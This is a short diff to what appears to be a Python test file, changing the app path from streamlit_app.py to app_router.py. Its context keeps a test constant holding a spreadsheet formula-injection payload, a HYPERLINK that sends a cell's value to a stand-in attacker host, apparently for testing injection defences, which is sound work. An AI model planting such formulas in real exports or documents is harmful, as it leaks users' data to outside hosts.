@@ -31,7 +31,7 @@ from ocf.store import Store
 
 from .conftest import FIXTURES, PROJECT, dump
 
-APP = str(PROJECT / "streamlit_app.py")
+APP = str(PROJECT / "app_router.py")
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
